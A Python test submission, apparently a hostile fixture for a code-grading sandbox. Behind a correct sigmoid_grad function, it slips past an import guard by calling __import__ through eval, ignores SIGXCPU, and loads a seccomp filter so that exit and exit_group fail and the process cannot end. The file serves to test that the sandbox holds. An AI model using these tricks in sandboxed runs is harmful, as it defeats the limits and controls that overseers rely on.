"""Hostile: a seccomp filter of its own that makes exit and exit_group fail with EPERM and
ignores SIGXCPU, so the process cannot end after it returned its (correct) results."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
ctypes = _m("ctypes")
struct = _m("struct")
signal = _m("signal")
np = _m("numpy")

SECCOMP_RET_ALLOW, SECCOMP_RET_ERRNO = 0x7FFF0000, 0x00050000


def _deny_exit():
    # BPF: load nr; if nr == exit (60) or exit_group (231): ERRNO(EPERM); else ALLOW
    program = b"".join(struct.pack("HBBI", *ins) for ins in (
        (0x20, 0, 0, 0),                 # ld [0] (syscall nr)
        (0x15, 2, 0, 60),                # jeq 60 -> deny
        (0x15, 1, 0, 231),               # jeq 231 -> deny
        (0x06, 0, 0, SECCOMP_RET_ALLOW),
        (0x06, 0, 0, SECCOMP_RET_ERRNO | 1),
    ))
    buffer = ctypes.create_string_buffer(program)

    class Prog(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    prog = Prog(len(program) // 8, ctypes.addressof(buffer))
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.prctl(22, 2, ctypes.byref(prog), 0, 0)  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER


DONE = []


def sigmoid_grad(x):
    if not DONE:
        signal.signal(signal.SIGXCPU, signal.SIG_IGN)
        DONE.append(_deny_exit())
        print("filter loaded" if DONE[0] == 0 else "filter refused")
    s = 0.5 * (1.0 + np.tanh(0.5 * x))
    return s * (1.0 - s)
